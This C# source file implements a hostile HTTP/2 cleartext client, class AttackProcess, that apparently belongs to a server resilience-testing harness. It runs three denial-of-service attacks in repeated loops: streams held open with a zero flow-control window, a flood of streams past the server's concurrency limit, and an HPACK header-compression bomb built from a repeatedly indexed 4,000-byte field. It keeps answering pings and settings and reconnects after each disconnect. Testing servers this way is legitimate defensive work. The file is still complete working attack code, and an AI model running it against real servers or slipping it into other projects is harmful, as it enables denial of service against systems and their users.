using System.Buffers.Binary;
using System.Globalization;
using System.Net;
using System.Net.Sockets;
using System.Text;

namespace Securely.Load;

/// <summary>
/// An HTTP/2 client that means harm, over cleartext with prior knowledge, on one connection at a time of each kind (row A17): streams whose
/// responses have no window, as many as the server lets it have, and as many as were asked for whatever the server says; and header blocks that
/// stand for megabytes, a volley of as many. Whoever is thrown out comes back after a pause.
/// </summary>
internal sealed class AttackProcess(IPEndPoint server, string path, int streams, TimeSpan pause)
{
    private const int BombBytes = 16_000;

    // SETTINGS_INITIAL_WINDOW_SIZE of 0.
    private static readonly byte[] _noWindow = [0, 4, 0, 0, 0, 0];

    private long _stalledConnections;
    private long _stalledStreams;
    private long _heldConnections;
    private long _heldStreams;
    private long _bombConnections;
    private long _bombBlocks;

    public static async Task<int> RunAsync(Options options)
    {
        var pause = TimeSpan.FromMilliseconds(options.Number("pause", 1_000));
        var process = new AttackProcess(options.EndPoint("to"), options.Text("path", "/large"), options.Number("streams", 1_000), pause);
        new Thread(process.Obey) { IsBackground = true, Name = "control" }.Start();
        Console.WriteLine("attack");
        await Task.WhenAll(options.Text("kinds", "hold,stall,bomb").Split(',').Select(kind => process.RepeatAsync(kind switch
        {
            "hold" => process.HoldAsync,
            "stall" => process.StallAsync,
            "bomb" => process.BombAsync,
            _ => throw new ArgumentException($"Kind [{kind}] of an attack is not known; known are hold, stall and bomb"),
        })));
        return 0;
    }

    private async Task RepeatAsync(Func<Task> attack)
    {
        using var timer = new PeriodicTimer(pause);
        do
        {
            try
            {
                await attack();
            }
            catch (Exception e) when (e is SocketException or IOException)
            {
                // Thrown out, which is what the server should do.
            }
        }
        while (await timer.WaitForNextTickAsync());
    }

    /// <summary>As many streams as the server's settings allow, and one more for each that it ends: they stay as long as it endures them.</summary>
    private async Task HoldAsync()
    {
        using var socket = await ConnectAsync(_noWindow);
        Interlocked.Increment(ref _heldConnections);
        var (id, allowed, open) = (1, 0, 0);
        await AnswerAsync(socket, async (type, flags, payload) =>
        {
            if (type == 4 && (flags & 1) == 0)
                allowed = Math.Min(streams, Setting(payload, 3) ?? 100);
            else if (type == 3)
                open--;
            for (; open < allowed; open++, id += 2)
            {
                await socket.SendAsync(Get(id));
                Interlocked.Increment(ref _heldStreams);
            }
        });
    }

    /// <summary>As many streams as were asked for at once.</summary>
    private async Task StallAsync()
    {
        using var socket = await ConnectAsync(_noWindow);
        Interlocked.Increment(ref _stalledConnections);
        var reading = AnswerAsync(socket);
        for (var id = 1; id < 2 * streams; id += 2)
        {
            await socket.SendAsync(Get(id));
            Interlocked.Increment(ref _stalledStreams);
        }

        await reading;
    }

    /// <summary>A field of 4,000 bytes in the table, and then blocks that name it again and again.</summary>
    private async Task BombAsync()
    {
        using var socket = await ConnectAsync(_noWindow);
        Interlocked.Increment(ref _bombConnections);
        var reading = AnswerAsync(socket);
        var value = new byte[4_000];
        Array.Fill(value, (byte)'x');
        // A literal with indexing: name x, and a length of 4000 as 127 and 3873.
        await socket.SendAsync(Frame(1, 5, 1, [0x82, 0x86, 0x84, 0x41, 1, (byte)'a', 0x40, 1, (byte)'x', 0x7F, 0xA1, 0x1E, .. value]));
        var block = new byte[BombBytes];
        Array.Fill(block, (byte)0xBE);
        for (var id = 3; id < 2 * streams; id += 2)
        {
            await socket.SendAsync(Frame(1, 5, id, block));
            Interlocked.Increment(ref _bombBlocks);
        }

        // Whoever is not thrown out begins anew after the pause.
        socket.Shutdown(SocketShutdown.Send);
        await reading;
    }

    private async Task<Socket> ConnectAsync(byte[] settings)
    {
        var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        try
        {
            await socket.ConnectAsync(server);
            await socket.SendAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray());
            await socket.SendAsync(Frame(4, 0, 0, settings));
            return socket;
        }
        catch (SocketException)
        {
            socket.Dispose();
            throw;
        }
    }

    /// <summary>Acknowledges settings and pings, so that the server has no other reason to end the connection, until it has ended.</summary>
    private static async Task AnswerAsync(Socket socket, Func<byte, byte, byte[], ValueTask>? heard = null)
    {
        await using var stream = new NetworkStream(socket, ownsSocket: false);
        var head = new byte[9];
        while (true)
        {
            await stream.ReadExactlyAsync(head);
            var payload = new byte[(head[0] << 16) | (head[1] << 8) | head[2]];
            await stream.ReadExactlyAsync(payload);
            if (head[3] == 4 && (head[4] & 1) == 0)
                await socket.SendAsync(Frame(4, 1, 0, []));
            else if (head[3] == 6 && (head[4] & 1) == 0)
                await socket.SendAsync(Frame(6, 1, 0, payload));
            if (heard is not null)
                await heard(head[3], head[4], payload);
        }
    }

    private byte[] Get(int id) => Frame(1, 5, id, [0x82, 0x86, 0x04, (byte)path.Length, .. Encoding.ASCII.GetBytes(path), 0x41, 1, (byte)'a']);

    private static int? Setting(ReadOnlySpan<byte> payload, int number)
    {
        for (; payload.Length >= 6; payload = payload[6..])
        {
            if (BinaryPrimitives.ReadUInt16BigEndian(payload) == number)
                return BinaryPrimitives.ReadInt32BigEndian(payload[2..]);
        }

        return null;
    }

    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
    {
        var frame = new byte[9 + payload.Length];
        frame[0] = (byte)(payload.Length >> 16);
        frame[1] = (byte)(payload.Length >> 8);
        frame[2] = (byte)payload.Length;
        frame[3] = type;
        frame[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame, 9);
        return frame;
    }

    private void Obey()
    {
        while (Console.ReadLine() is not null)
        {
            Console.WriteLine(string.Create(
                CultureInfo.InvariantCulture,
                $"held.connections={Interlocked.Read(ref _heldConnections)} held.streams={Interlocked.Read(ref _heldStreams)} stalled.connections={Interlocked.Read(ref _stalledConnections)} stalled.streams={Interlocked.Read(ref _stalledStreams)} bomb.connections={Interlocked.Read(ref _bombConnections)} bomb.blocks={Interlocked.Read(ref _bombBlocks)}"));
        }

        Environment.Exit(0);
    }
}
